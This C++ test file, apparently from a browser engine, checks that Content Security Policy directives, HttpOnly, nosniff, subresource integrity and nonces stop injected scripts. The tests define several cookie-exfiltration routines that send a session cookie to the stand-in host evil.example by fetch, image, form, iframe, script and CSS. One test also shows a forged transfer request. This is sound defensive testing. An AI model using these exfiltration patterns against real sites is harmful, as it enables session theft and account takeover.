#include "core/base/base64.h"
#include "core/crypto/digest.h"
#include "tests/core/browser/agent_world.h"

using namespace parapet;
using namespace parapet::browser;
using namespace parapet::tests;

namespace {

// A shop with a page that shows what a visitor wrote, and ways for a script to get a cookie out.
struct InjectedWorld : AgentWorld {
    explicit InjectedWorld(http::HeaderList headers,
                           std::string const& html = "<script>attack</script>") {
        headers.append("Set-Cookie", "id=s3cret; Secure");
        shop.page("/", html, headers);
        evil.file("/collect", "image/png", "", {{"Access-Control-Allow-Origin", "*"}});
    }

    // Whether the cookie arrives at evil.example when the page runs the attack.
    bool steals(TestScripts::Function attack) {
        scripts.functions["attack"] = std::move(attack);
        visit("https://shop.example/");
        return evil.received("s3cret");
    }
};

std::string collect(PageApi& page) { return "https://evil.example/collect?" + page.cookie(); }

void by_fetch(PageApi& page) { page.fetch({.url = collect(page), .mode = RequestMode::NoCors}); }
void by_image(PageApi& page) {
    page.set_attribute(page.create_element("img"), "src", collect(page));
}
void by_navigation(PageApi& page) { page.navigate(collect(page)); }
void by_form(PageApi& page) {
    NodeId const form = page.create_element("form");
    page.set_attribute(form, "action", "https://evil.example/collect");
    page.set_attribute(form, "method", "post");
    NodeId const field = page.create_element("input");
    page.set_attribute(field, "name", "loot");
    page.set_attribute(field, "value", page.cookie());
    page.append(form, field);
    page.append(*page.tree().find("body"), form);
    page.submit_form(form);
}
void by_script(PageApi& page) {
    NodeId const script = page.create_element("script");
    page.set_attribute(script, "src", collect(page));
    page.append(*page.tree().find("body"), script);
}
void by_frame(PageApi& page) {
    NodeId const frame = page.create_element("iframe");
    page.set_attribute(frame, "src", collect(page));
    page.append(*page.tree().find("body"), frame);
}
void by_style(PageApi& page) {
    NodeId const style = page.create_element("style");
    page.set_text(style, "body { background: url('" + collect(page) + "') }");
    page.append(*page.tree().find("body"), style);
}

}  // namespace

TEST_CASE("user_agent: an injected script gets the cookie out by every way", "[browser][agent]") {
    for (auto way : {by_fetch, by_image, by_navigation, by_form, by_script, by_frame, by_style}) {
        InjectedWorld world({});
        CHECK(world.steals(way));
    }
}

TEST_CASE("user_agent: each way out is closed by its own directive", "[browser][agent]") {
    struct Case {
        void (*way)(PageApi&);
        std::string directive;
    };
    std::string const open = "script-src 'unsafe-inline' https://evil.example; ";
    for (Case const& each :
         {Case{by_fetch, "connect-src 'self'"}, Case{by_image, "img-src 'self'"},
          Case{by_form, "form-action 'self'"}, Case{by_frame, "frame-src 'self'"},
          Case{by_style, "style-src 'unsafe-inline'; img-src 'self'"}}) {
        CAPTURE(each.directive);
        CHECK_FALSE(InjectedWorld(csp(open + each.directive)).steals(each.way));
        CHECK(InjectedWorld(csp(open)).steals(each.way));
    }
    CHECK_FALSE(InjectedWorld(csp("script-src 'unsafe-inline'")).steals(by_script));
    // No directive stops location = …: the script must not run at all.
    CHECK(InjectedWorld(csp("default-src 'self' 'unsafe-inline'")).steals(by_navigation));
    CHECK_FALSE(InjectedWorld(csp("default-src 'self'")).steals(by_navigation));
}

TEST_CASE("user_agent: form-action is asked again when the form is redirected",
          "[browser][agent]") {
    InjectedWorld world(csp("script-src 'unsafe-inline'; form-action 'self'"));
    world.shop.redirect("/out", 307, "https://evil.example/collect");
    CHECK_FALSE(world.steals([](PageApi& page) {
        NodeId const form = page.create_element("form");
        page.set_attribute(form, "action", "/out?s3cret");
        page.set_attribute(form, "method", "post");
        page.append(*page.tree().find("body"), form);
        page.submit_form(form);
    }));
    CHECK(world.shop.count("/out") == 1);
    CHECK(world.shown().status == 0);  // it went out, so the page is gone
    CHECK(world.evil.asked.empty());
}

TEST_CASE("user_agent: a nonce lets the page's own script run and no other", "[browser][agent]") {
    InjectedWorld world(csp("script-src 'nonce-abc'"),
                        "<script nonce=abc>own</script><script>attack</script>"
                        "<script nonce=guess>attack</script><img src=/x onerror=attack>");
    CHECK_FALSE(world.steals(by_navigation));
    CHECK(world.scripts.ran == std::vector<std::string>{"own"});
    CHECK(world.events(EventKind::ScriptBlocked).size() == 3);
}

TEST_CASE("user_agent: an image that fails runs its onerror, unless a policy forbids it",
          "[browser][agent]") {
    std::string const html = "<img src=/missing.png onerror=attack>";
    CHECK(InjectedWorld({}, html).steals(by_fetch));
    CHECK_FALSE(InjectedWorld(csp("script-src 'self'"), html).steals(by_fetch));
}

TEST_CASE("user_agent: innerHTML runs handlers but no scripts, document.write both",
          "[browser][agent]") {
    AgentWorld world;
    world.shop.page("/", "<div id=here></div><script>build</script>");
    std::string const html = "<script>from script</script><img src=/x onerror=\"from handler\">";
    world.scripts.functions["build"] = [&](PageApi& page) {
        page.set_inner_html(*page.tree().find_by_id("here"), html);
    };
    world.visit("https://shop.example/");
    CHECK(world.scripts.ran == std::vector<std::string>{"build", "from handler"});
    world.scripts.ran.clear();
    world.scripts.functions["build"] = [&](PageApi& page) { page.write(html); };
    world.visit("https://shop.example/");
    CHECK(world.scripts.ran == std::vector<std::string>{"build", "from script", "from handler"});
}

TEST_CASE("user_agent: a javascript: link runs on click, unless a policy forbids it",
          "[browser][agent]") {
    std::string const html = R"(<a id=go href="javascript:attack">go</a>)";
    for (bool const guarded : {false, true}) {
        InjectedWorld world(guarded ? csp("script-src 'self'") : http::HeaderList{}, html);
        world.scripts.functions["attack"] = by_fetch;
        world.visit("https://shop.example/");
        world.click("go");
        CHECK(world.evil.received("s3cret") == !guarded);
        CHECK(world.has(EventKind::ScriptBlocked, "javascript:") == guarded);
    }
}

TEST_CASE("user_agent: HttpOnly keeps the cookie from the script, which still acts as the user",
          "[browser][agent]") {
    AgentWorld world;
    world.shop.page("/", "<script>attack</script>",
                    {{"Set-Cookie", "id=s3cret; Secure; HttpOnly"}});
    std::string seen = "not run";
    world.scripts.functions["attack"] = [&seen](PageApi& page) {
        seen = page.cookie();
        page.fetch({.url = "/transfer", .method = "POST", .body = "to=eve"});
    };
    world.visit("https://shop.example/");
    CHECK(seen.empty());
    CHECK(header(world.shop.last("/transfer"), "Cookie") == "id=s3cret");
}

TEST_CASE("user_agent: an upload with nosniff and a wrong type does not run", "[browser][agent]") {
    for (bool const guarded : {false, true}) {
        AgentWorld world;
        world.shop.page("/", "<script src=/upload></script>", csp("script-src 'self'"));
        http::HeaderList headers;
        if (guarded) headers.append("X-Content-Type-Options", "nosniff");
        world.shop.file("/upload", "text/plain", "attack", headers);
        world.visit("https://shop.example/");
        CHECK(world.scripts.has_run("attack") == !guarded);
        CHECK(world.has(EventKind::TypeRefused) == guarded);
    }
}

TEST_CASE("user_agent: integrity stops a script that the CDN has changed", "[browser][agent]") {
    std::string const good = "library";
    std::string const hash = encode_base64(crypto::digest(crypto::Hash::Sha384, as_bytes(good)));
    for (std::string const& served : {good, std::string("attack")}) {
        AgentWorld world;
        world.shop.page(
            "/", "<script src=\"https://cdn.example/lib.js\" crossorigin integrity=\"sha384-" +
                     hash + "\"></script>");
        world.cdn.file("/lib.js", "text/javascript", served,
                       {{"Access-Control-Allow-Origin", "*"}});
        world.visit("https://shop.example/");
        CHECK(world.scripts.has_run(served) == (served == good));
    }
    AgentWorld world;  // without crossorigin the hash may not be told
    world.shop.page("/", "<script src=\"https://cdn.example/lib.js\" integrity=\"sha384-" + hash +
                             "\"></script>");
    world.cdn.file("/lib.js", "text/javascript", good);
    world.visit("https://shop.example/");
    CHECK_FALSE(world.scripts.has_run(good));
}

TEST_CASE("user_agent: an injected base takes the page's relative scripts elsewhere",
          "[browser][agent]") {
    for (bool const guarded : {false, true}) {
        AgentWorld world;
        world.shop.page(
            "/", "<base href=\"https://evil.example/\"><script nonce=n src=/app.js></script>",
            csp(std::string("script-src 'nonce-n'") + (guarded ? "; base-uri 'none'" : "")));
        world.shop.file("/app.js", "text/javascript", "own");
        world.evil.file("/app.js", "text/javascript", "attack");
        world.visit("https://shop.example/");
        CHECK(world.scripts.has_run(guarded ? "own" : "attack"));
        CHECK_FALSE(world.scripts.has_run(guarded ? "attack" : "own"));
    }
}

TEST_CASE("user_agent: dangling markup reaches the attacker in the old profile alone",
          "[browser][agent]") {
    for (auto const& profile : {BrowserProfile::current(), BrowserProfile::old()}) {
        AgentWorld world({.profile = profile});
        world.shop.page("/", "<img src=\"https://evil.example/?\n<input value=t0ken>\">");
        world.visit("https://shop.example/");
        CHECK(world.evil.received("t0ken") == (profile.name == "old"));
    }
}

TEST_CASE("user_agent: a policy in a meta element counts for what stands after it",
          "[browser][agent]") {
    AgentWorld world;
    world.shop.page("/",
                    "<script>first</script><meta http-equiv=Content-Security-Policy "
                    "content=\"script-src 'none'\"><script>second</script>");
    world.visit("https://shop.example/");
    CHECK(world.scripts.ran == std::vector<std::string>{"first"});
}

TEST_CASE("user_agent: eval is asked about", "[browser][agent]") {
    for (bool const guarded : {false, true}) {
        AgentWorld world;
        world.shop.page("/", "<script nonce=n>build</script>",
                        guarded ? csp("script-src 'nonce-n'") : http::HeaderList{});
        bool may = guarded;
        world.scripts.functions["build"] = [&may](PageApi& page) { may = page.may_eval("1+1"); };
        world.visit("https://shop.example/");
        CHECK(may == !guarded);
    }
}
